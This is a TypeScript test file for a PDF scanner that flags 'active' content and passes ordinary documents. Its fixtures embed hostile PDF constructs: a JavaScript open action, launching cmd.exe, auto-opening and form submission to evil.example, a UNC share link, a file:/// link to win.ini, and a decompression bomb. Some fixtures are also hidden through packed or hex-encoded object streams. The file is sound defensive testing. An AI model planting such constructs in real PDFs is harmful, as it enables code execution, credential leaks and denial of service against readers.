import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { lookIntoPdf as lookInto } from './pdf-check.js';

/** A thread gets the bytes it looks into; each look reads them anew. */
const lookIntoPdf = (bytes: Uint8Array, mostCpuMs?: number) =>
  lookInto(() => Promise.resolve(Buffer.from(Uint8Array.from(bytes).buffer)), mostCpuMs);

/** A PDF of objects written one by one: `[number, text]`, a stream where there are bytes. */
function pdf(objects: readonly (readonly [number, string, Uint8Array?])[]): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  for (const [number, text, bytes] of objects)
    parts.push(
      bytes
        ? Buffer.concat([
            Buffer.from(`${number} 0 obj\n${text.replace('>>', `/Length ${bytes.length} >>`)}\nstream\n`),
            bytes,
            Buffer.from('\nendstream\nendobj\n'),
          ])
        : Buffer.from(`${number} 0 obj\n${text}\nendobj\n`),
    );
  return Buffer.concat([...parts, Buffer.from('trailer << /Root 1 0 R /Size 20 >>\nstartxref\n0\n%%EOF')]);
}
const inside = (objects: readonly (readonly [number, string])[]): Buffer => {
  const bodies = objects.map(([, text]) => `${text} `);
  const at = bodies.map((_, n) => bodies.slice(0, n).join('').length);
  const head = objects.map(([number], n) => `${number} ${at[n]}`).join(' ') + ' ';
  return Buffer.concat([Buffer.from(`${head.length}|`), Buffer.from(head + bodies.join(''))]);
};
/** Objects packed into a stream, as most programmes write them today. */
function packed(
  objects: readonly (readonly [number, string])[],
  { type = '/Type /ObjStm ', filter = '/FlateDecode', pack = deflateSync as (b: Buffer) => Buffer } = {},
) {
  const [, first, body] = /^(\d+)\|([^]*)$/.exec(inside(objects).toString('latin1'))!;
  return [9, `<< ${type}/N ${objects.length} /First ${first} /Filter ${filter} >>`, pack(Buffer.from(body!, 'latin1'))] as const;
}
const ROOT = [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>'] as const;
const PAGES = [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'] as const;
const PAGE = [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>'] as const;
const LINK = [4, '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI (https://www.justice.gouv.qc.ca/) >> >>'] as const;
const QUIET = [5, '<< /S /GoTo /D [3 0 R /Fit] >>'] as const;
const plain = [ROOT, PAGES, PAGE, LINK, QUIET] as const;
const but = (...other: readonly (readonly [number, string])[]) => plain.map((each) => other.find(([n]) => n === each[0]) ?? each);

const ACTIVE: readonly [what: string, object: readonly [number, string]][] = [
  ['a script when it opens', [5, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']],
  ['a script with its name in hexadecimal', [5, '<< /S /J#61vaScript >>']],
  ['a page of the web that opens by itself', [5, '<< /S /URI /URI (https://evil.example/) >>']],
  ['an action after an innocent one', [5, '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>']],
  ['a page of the web after an innocent action', [5, '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>']],
  ['a document elsewhere', [4, '<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\a.pdf) /D [0 /Fit] >> >>']],
  ['a share of a network', [4, '<< /Subtype /Link /A << /S /URI /URI (\\\\\\\\198.51.100.7\\\\share) >> >>']],
  ['a file of the reader', [4, '<< /Subtype /Link /A << /S /URI /URI (file:///c:/windows/win.ini) >> >>']],
  ['a programme', [4, '<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>']],
  ['acts of a page', [3, '<< /Type /Page /Parent 2 0 R /AA << /O << /S /Named /N /Print >> >> >>']],
  ['an attachment', [4, '<< /Subtype /FileAttachment /FS << /Type /Filespec /EF << /F 6 0 R >> >> >>']],
  ['a form of XML', [5, '<< /XFA [(template) 6 0 R] >>']],
  ['a form that sends itself', [4, '<< /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example/) >> >>']],
];

describe('a PDF that does more than show pages', () => {
  it.each(ACTIVE)('is refused for %s, in the clear', async (_what, object) => expect(await lookIntoPdf(pdf(but(object)))).toBe('active'));

  it.each(ACTIVE)('is refused for %s, packed among other objects', async (_what, object) => {
    const [first, ...rest] = but(object);
    expect(await lookIntoPdf(pdf([packed([...rest, first!])]))).toBe('active');
    expect(await lookIntoPdf(pdf([packed([...rest, first!], { type: '' })]))).toBe('active');
  });

  it('is refused when the table is packed otherwise, or twice', async () => {
    const objects = but(ACTIVE[0]![1]);
    const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`);
    expect(await lookIntoPdf(pdf([packed(objects, { filter: '/ASCIIHexDecode', pack: hex })]))).toBe('active');
    expect(await lookIntoPdf(pdf([packed(objects, { filter: '[/ASCIIHexDecode /FlateDecode]', pack: (b) => hex(deflateSync(b)) })]))).toBe(
      'active',
    );
  });

  it('is refused when a later object hides it, or it lies within the bytes of another', async () => {
    const table = packed(but(ACTIVE[2]![1]));
    expect(await lookIntoPdf(pdf([table, [9, '(nothing)']]))).toBe('active');
    expect(await lookIntoPdf(pdf([...plain, [12, '<< >>', pdf([table])]]))).toBe('active');
  });

  it('is refused when it cannot be read within bounds', async () => {
    const bomb = [9, '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>', deflateSync(Buffer.alloc(200 * 1024 * 1024))] as const;
    expect(await lookIntoPdf(pdf([...plain, bomb]))).toBe('active');
    expect(await lookIntoPdf(Buffer.from('%PDF'))).toBe('active');
  });

  it('is refused for the time of the processor it takes, whatever the clock says', async () => {
    const long = Buffer.from(`%PDF-1.7\n${'x'.repeat(400_000)}\n%%EOF`, 'latin1');
    expect(await lookIntoPdf(long, 300)).toBe('active');
    expect(await lookIntoPdf(pdf(plain), 60_000)).toBeUndefined();
  });

  it('is refused when it is encrypted, also where only a packed table says so', async () => {
    const text = pdf(plain).toString('latin1').replace('/Size 20', '/Size 20 /Encrypt 7 0 R');
    expect(await lookIntoPdf(Buffer.from(text.replace('trailer', '7 0 obj << /Filter /Standard >> endobj\ntrailer'), 'latin1'))).toBe(
      'encrypted',
    );
  });
});

describe('an ordinary PDF', () => {
  it('with links, a first page and packed objects is kept', async () => {
    expect(await lookIntoPdf(pdf(plain))).toBeUndefined();
    expect(await lookIntoPdf(pdf([packed(plain)]))).toBeUndefined();
    for (const to of ['mailto:info@exemple.ca', 'tel:+15145550100', 'www.jurilien.example', '#page=2'])
      expect(await lookIntoPdf(pdf(but([4, `<< /Subtype /Link /A << /S /URI /URI (${to}) >> >>`])))).toBeUndefined();
  });

  it('as a programme writes it, with a font, a link and object streams, is kept', async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage();
    page.drawText('Bail résidentiel', { font: await doc.embedFont(StandardFonts.Helvetica) });
    const link = doc.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 9, 9],
      A: { S: 'URI', URI: PDFString.of('https://exemple.ca') },
    });
    page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
    for (const useObjectStreams of [true, false]) expect(await lookIntoPdf(await doc.save({ useObjectStreams }))).toBeUndefined();
  });

  it('of many megabytes is looked through before its time of the processor is over', async () => {
    const image = [20, '<< /Type /XObject /Subtype /Image >>', Buffer.alloc(15 * 1024 * 1024, 7)] as const;
    expect(await lookIntoPdf(pdf([...plain, image]))).toBeUndefined();
  });
});
